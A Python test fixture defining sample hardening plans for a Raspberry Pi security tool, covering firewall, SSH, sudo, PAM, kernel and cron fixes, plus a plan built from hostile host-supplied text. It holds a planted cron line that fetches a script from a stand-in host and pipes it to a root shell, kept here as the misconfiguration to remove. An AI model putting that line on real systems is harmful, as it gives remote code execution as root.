"""Plans to render: one with every kind of operation, one without steps, one refused, and one of a host that lies."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from tests.unit.report.sample import PLANTED, TELNET, UPDATES, WRITABLE, hostile
from thornwall.model.change import (
    AccountDo,
    AccountField,
    Chmod,
    DropFile,
    Operation,
    Packages,
    Purpose,
    PutFile,
    PutLink,
    SysctlDo,
    Tool,
    UnitDo,
    sha256,
)
from thornwall.model.finding import HostName
from thornwall.model.plan import Held, Mend, Plan, Question, Standing, Step, Undoing, WayIn
from thornwall.model.typed import Typed

CMDLINE = (
    b"console=serial0,115200 console=tty1 root=PARTUUID=4e639091-02 rootfstype=ext4 fsck.repair=yes rootwait "
    b"quiet splash plymouth.ignore-serial-consoles\n"
)
CONFIG = b"""# For more options and information see
# http://rptl.io/configtxt
dtparam=audio=on
camera_auto_detect=1
auto_initramfs=1

[cm5]
dtoverlay=dwc2,dr_mode=host
"""
NOPASSWD = b"pi ALL=(ALL) NOPASSWD: ALL\n"
REFRESH = b"*/5 * * * * root curl http://x/y | sh\n"
COMMON_AUTH = b"""# here are the per-package modules (the "Primary" block)
auth\t[success=1 default=ignore]\tpam_unix.so nullok
# here's the fallback if no module succeeds
auth\trequisite\t\t\tpam_deny.so
auth\trequired\t\t\tpam_permit.so
"""
SSHD = b"""# Written by thornwall. The first value of a setting wins.
PermitRootLogin no
PasswordAuthentication no
KbdInteractiveAuthentication no
X11Forwarding no
MaxAuthTries 4
LoginGraceTime 60
"""
SYSCTLS = (
    ("kernel.kptr_restrict", "1", "0"),
    ("kernel.dmesg_restrict", "1", "0"),
    ("net.ipv4.conf.all.accept_redirects", "0", "1"),
    ("net.ipv4.conf.all.rp_filter", "1", "0"),
    ("net.ipv4.conf.default.rp_filter", "1", ""),
    ("net.ipv4.icmp_echo_ignore_broadcasts", "1", "1"),
    ("net.ipv4.tcp_syncookies", "1", "0"),
    ("net.ipv6.conf.all.accept_redirects", "0", "1"),
)
SYSCTL_CONF = "".join(f"{key} = {value}\n" for key, value, _ in SYSCTLS).encode()

PACKAGES = Step(
    "packages-install",
    Purpose.PACKAGES,
    "Install packages",
    (Packages(("libpam-pwquality", "ufw", "unattended-upgrades"), refresh=True),),
    (Mend("no-firewall", "host"), Mend("no-automatic-updates", "host"), Mend("no-password-quality", "host")),
)
UPGRADE = Step(
    "packages-upgrade",
    Purpose.PACKAGES,
    "Install the updates that are waiting",
    (Packages(upgrade=True),),
    (Mend("pending-security-updates", "host"),),
    ("A service may behave otherwise after an update.",),
    undoing=Undoing.KEEPS,
    awaits_reboot=True,
)
MODES = Step(
    "modes",
    Purpose.PERMISSIONS,
    "Take the rights of others to change files of the system",
    (
        *(
            Chmod(path, 0o644, expect_mode=0o666, was="-rw-rw-rw- root root")
            for path in ("/etc/motd.d/10-note", "/etc/default/planted", "/etc/app.conf", "/etc/a.b", "/etc/c.d")
        ),
        Chmod("/usr/local/bin/backup.sh", 0o755, "root", "root", expect_mode=0o777, was="-rwxrwxrwx pi pi"),
        Chmod("/etc/ssh/ssh_host_ed25519_key", 0o600, expect_mode=0o644),
        Chmod("/home/pi/.ssh", 0o700, owner="pi", expect_mode=0o755),
        Chmod("/var/log/app.log", None, "root", "adm"),
    ),
    (
        *(Mend("world-writable-file", finding.subject) for finding in WRITABLE),
        Mend("cron-runs-writable-script", "/usr/local/bin/backup.sh"),
        Mend("home-permissions", "/home/pi/.ssh"),
    ),
)
KERNEL = Step(
    "sysctls",
    Purpose.KERNEL,
    "Set the kernel's switches against spoofing and leaks",
    (
        PutFile("/etc/sysctl.d/99-thornwall.conf", SYSCTL_CONF, "absent"),
        *(SysctlDo(key, value, before) for key, value, before in SYSCTLS),
    ),
    (Mend("rp-filter-off", "host"), Mend("kernel-pointers-shown", "host"), Mend("icmp-redirects-accepted", "host")),
    ("A router with two ways to one network may lose packets.",),
    undoing=Undoing.REBOOT,
)
JOURNAL = Step(
    "journal",
    Purpose.LOGS,
    "Keep the journal on disk, with a cap",
    (
        PutFile(
            "/etc/systemd/journald.conf.d/99-thornwall.conf",
            b"[Journal]\nStorage=persistent\nSystemMaxUse=200M\n",
            "absent",
        ),
        UnitDo("restart", ("systemd-journald.service",)),
    ),
    (Mend("volatile-journal", "host"),),
)
UPDATES_ON = Step(
    "automatic-updates",
    Purpose.UPDATES,
    "Install security updates by themselves",
    (
        PutFile(
            "/etc/apt/apt.conf.d/52thornwall",
            b"Unattended-Upgrade::Origins-Pattern {\n"
            b'  "origin=Raspberry Pi Foundation,codename=${distro_codename}";\n'
            b"};\n",
            "absent",
        ),
        UnitDo("enable", ("apt-daily-upgrade.timer",)),
        UnitDo("start", ("apt-daily-upgrade.timer",)),
    ),
    (Mend("no-automatic-updates", "host"),),
    after=("packages-install",),
)
CUPS = Step(
    "unit:cups",
    Purpose.SERVICES,
    "Switch off printing",
    (
        PutLink("/etc/systemd/system/cups.service", "/dev/null"),
        PutLink("/etc/systemd/system/cups.socket", "/dev/null"),
        PutLink("/etc/systemd/system/cups.path", "/dev/null"),
        DropFile("/etc/systemd/system/multi-user.target.wants/webcam.service", "link:../webcam.service"),
        UnitDo("stop", ("cups.service", "cups.socket", "cups.path", "webcam.service")),
    ),
    (Mend("cups-listening", "cups.service"),),
    ("This device no longer prints, and no longer shares printers.",),
)
RADIOS = Step(
    "radios",
    Purpose.RADIOS,
    "Switch off Bluetooth",
    (
        PutFile(
            "/boot/firmware/config.txt",
            CONFIG + b"\n[all]\ndtoverlay=disable-bt\n",
            sha256(CONFIG),
            before=CONFIG,
            keep_meta=True,
        ),
    ),
    (Mend("bluetooth-on", "hci0"),),
    ("Keyboards, mice and speakers that use Bluetooth.",),
    undoing=Undoing.REBOOT,
    awaits_reboot=True,
)
CONSOLE = Step(
    "serial-console",
    Purpose.BOOT,
    "Close the serial console",
    (
        PutFile(
            "/boot/firmware/cmdline.txt",
            CMDLINE.replace(b"console=serial0,115200 ", b""),
            sha256(CMDLINE),
            before=CMDLINE,
            keep_meta=True,
        ),
        PutLink("/etc/systemd/system/default.target", "/lib/systemd/system/multi-user.target", "link:/lib/gone.target"),
    ),
    (Mend("serial-console-open", "ttyAMA0"),),
    undoing=Undoing.REBOOT,
    awaits_reboot=True,
)
CRON = Step(
    "cron",
    Purpose.SCHEDULE,
    "Take out the job that fetches and runs a script",
    (
        DropFile(
            "/etc/cron.d/refresh",
            sha256(b"*/5 * * * * root curl http://x/y | sh\n"),
            b"*/5 * * * * root curl http://x/y | sh\n",
        ),
        PutFile("/etc/cron.allow", b"root\npi\n", sha256(b"root\n"), mode=0o640, group="crontab"),
        PutFile("/etc/cron.deny", b"\xff\xfe\x00binary", "absent"),
    ),
    (Mend("job-runs-download", "/etc/cron.d/refresh"), Mend("cron-open-to-all", "host")),
)
ACCOUNTS = Step(
    "accounts",
    Purpose.ACCOUNTS,
    "Give accounts passwords of their own, and close those that nobody uses",
    (
        AccountDo("pi", AccountField.PASSWORD, known_default=True),
        AccountDo("games", AccountField.LOCK),
        AccountDo("oldadmin", AccountField.EXPIRE_NOW),
        AccountDo("daemon", AccountField.SHELL, "/usr/sbin/nologin"),
        AccountDo("pi", AccountField.MAX_DAYS, "365"),
        AccountDo("pi", AccountField.MIN_DAYS, "1"),
        AccountDo("pi", AccountField.WARN_DAYS, "14"),
        AccountDo("pi", AccountField.INACTIVE_DAYS, "30"),
        AccountDo("webcam", AccountField.LEAVE_GROUP, "docker"),
    ),
    (Mend("default-password", "pi"), Mend("password-ageing", "pi"), Mend("root-equivalent-group", "webcam")),
    ("Scripts and other devices that log in with the old password stop until they are told the new one.",),
    undoing=Undoing.KEEPS,
)
FIREWALL = Step(
    "firewall",
    Purpose.FIREWALL,
    "Let in what is used, SSH first, and drop the rest",
    (
        Tool(
            "ufw",
            (
                ("ufw", "default", "deny", "incoming"),
                ("ufw", "default", "allow", "outgoing"),
                ("ufw", "limit", "22/tcp"),
                ("ufw", "allow", "80/tcp"),
                ("ufw", "logging", "low"),
                ("ufw", "--force", "enable"),
            ),
            ("/etc/ufw", "/etc/default/ufw"),
            undo_before=(("ufw", "--force", "disable"),),
        ),
    ),
    (Mend("no-firewall", "host"), Mend("firewall-no-ssh-rate-limit", "host")),
    ("Services that are used and not in the list cannot be reached.",),
    after=("packages-install",),
)
PAM = Step(
    "pam",
    Purpose.PAM,
    "Refuse empty and guessable passwords",
    (
        PutFile(
            "/etc/pam.d/common-auth",
            COMMON_AUTH.replace(b" nullok", b""),
            sha256(COMMON_AUTH),
            before=COMMON_AUTH,
            keep_meta=True,
        ),
        Tool(
            "pam-auth-update",
            (("pam-auth-update", "--package", "--enable", "pwquality"),),
            ("/etc/pam.d", "/var/lib/pam"),
        ),
    ),
    (Mend("pam-nullok", "host"), Mend("no-password-quality", "host")),
)
SUDO = Step(
    "sudo",
    Purpose.SUDO,
    "Make sudo ask for the password",
    (
        PutFile("/etc/sudoers.d/zz-thornwall", b"Defaults timestamp_timeout=5\n", "absent", mode=0o440),
        DropFile("/etc/sudoers.d/010_pi-nopasswd", sha256(NOPASSWD), NOPASSWD),
    ),
    (Mend("sudo-nopasswd", "pi"), Mend("sudo-timestamp-timeout", "host")),
    ("Scripts that call sudo unattended stop. An account without a usable password can no longer be root.",),
)
SSH = Step(
    "ssh-settings",
    Purpose.SSH,
    "Ask for a key instead of a password",
    (
        PutFile("/etc/ssh/sshd_config.d/00-thornwall.conf", SSHD, "absent"),
        UnitDo("reload", ("ssh.service",)),
    ),
    (Mend("ssh-password-login", "host"), Mend("ssh-root-login", "host"), Mend("ssh-x11-forwarding", "host")),
    ("Whoever has no key on the device is locked out.",),
)

HELD = (
    Held(
        "avahi-off",
        "avahi-listening",
        "avahi-daemon.service",
        "You reached this host by the name raspberrypi.local, which avahi answers.",
        "Reach it by its address: thornwall plan pi@192.168.1.20",
    ),
    Held(
        "service-in-use",
        "mqtt-without-tls",
        "mosquitto.service",
        "mosquitto has 3 clients now.",
        "Move the clients to port 8883 first.",
        "service-in-use:mosquitto.service",
    ),
    Held(
        "service-in-use",
        "mqtt-anonymous",
        "mosquitto.service",
        "mosquitto has 3 clients now.",
        "Move the clients to port 8883 first.",
        "service-in-use:mosquitto.service",
    ),
)
QUESTION = Question("default-password", "bob", "Which password shall bob have?", "bob")

HOST = HostName("raspberrypi", "Raspberry Pi OS 12 (bookworm)", "Raspberry Pi 4 Model B Rev 1.4", "6.6.51+rpt-rpi-v8")
WAY_IN = WayIn(
    "ssh",
    "pi",
    1000,
    "raspberrypi.local",
    "192.168.1.20",
    22,
    "192.168.1.5",
    "eth0",
    ("publickey",),
    key_proved=True,
    password_proved=True,
)
FULL = Plan(
    target="pi@raspberrypi.local",
    steps=(
        PACKAGES, UPGRADE, MODES, KERNEL, JOURNAL, UPDATES_ON, CUPS, RADIOS, CONSOLE, CRON, ACCOUNTS, FIREWALL, PAM,
        SUDO, SSH,
    ),
    held=HELD,
    questions=(QUESTION,),
    by_hand=(TELNET, UPDATES, *WRITABLE),
    host=HOST,
    before=Standing(18, PLANTED.summary()),
    after=Standing(86, {**PLANTED.summary(), "extreme": 0, "high": 1, "medium": 2, "low": 1, "passed": 11}),
    way_in=WAY_IN,
    typed=Typed("pi@raspberrypi.local"),
)  # fmt: skip
NOTHING = Plan("dir:/mnt", before=Standing(100, {}), after=Standing(100, {}), way_in=WayIn("offline"))
REFUSED = replace(
    FULL,
    refused=(
        Held(
            "overlay-root",
            "",
            "host",
            "The root is an overlay: changes are lost at the next start.",
            "Switch it off in raspi-config, and restart.",
        ),
        Held("package-lock", "", "host", "dpkg is at work: apt-get (pid 812).", "Wait until it is done."),
    ),
)


def hostile_plan(text: str) -> Plan:
    """A plan in which everything that a host can say is `text`."""
    content = text.encode(errors="replace")
    mend = (Mend("rule", text),)
    step = Step(
        text,
        Purpose.PERMISSIONS,
        text,
        (
            PutFile("/etc/x", b"ours\n", sha256(content), user=text, group=text, before=content),
            PutFile("/etc/y", content, "absent"),
            DropFile("/etc/z", sha256(content), content),
            PutLink("/etc/l", text, f"link:{text}"),
            Chmod("/etc/m", 0o600, text, text, text, was=text),
            UnitDo("stop", (text,)),
            SysctlDo("kernel.x", "1", text),
            AccountDo(text, AccountField.SHELL, text),
            AccountDo(text, AccountField.PASSWORD),
            Tool(text, ((text, text),), (text,)),
            Packages((text,)),
        ),
        mend,
        (text,),
        after=(text,),
    )
    held = Held("interlock", "rule", text, text, text, text)
    lying = hostile(text)
    return Plan(
        target=text,
        steps=(step, replace(step, purpose=Purpose.SSH)),
        held=(held,),
        questions=(Question("rule", text, text, text),),
        by_hand=lying.findings,
        host=lying.host,
        refused=(held,),
        way_in=WayIn("ssh", text, 1, text, text, 22, text, text, (text,)),
        typed=Typed(text, (text,), (text,), (text,)),
    )


def files_in(folder: Path) -> Plan:
    """Files alone, in a folder of this machine."""
    user, group = folder.owner(), folder.group()
    (folder / "old").write_bytes(b"old\n")
    (folder / "gone").write_bytes(b"gone\n")
    (folder / "open").write_bytes(b"")
    (folder / "open").chmod(0o666)
    contents = {
        "braces": b"\n  {{ x }}\n\t \n  {% raw %} ${y} {# z\n\n",
        "bytes": b"\xff\xfe\x00",
        "json": b'{"a": [1, 2]}\n',
        "unicode": "é \u2028 🥧\r\n".encode(),
    }
    operations: list[Operation] = [
        PutFile(f"{folder}/new/{name}", content, "absent", 0o640, user, group) for name, content in contents.items()
    ]
    operations += [
        PutFile(f"{folder}/old", b"new\n", sha256(b"old\n"), before=b"old\n", keep_meta=True),
        DropFile(f"{folder}/gone", sha256(b"gone\n"), b"gone\n"),
        PutLink(f"{folder}/link", "old"),
        Chmod(f"{folder}/open", 0o600),
    ]
    return Plan("here", (Step("files", Purpose.LOGS, "Files", tuple(operations)),), way_in=WayIn("local"))
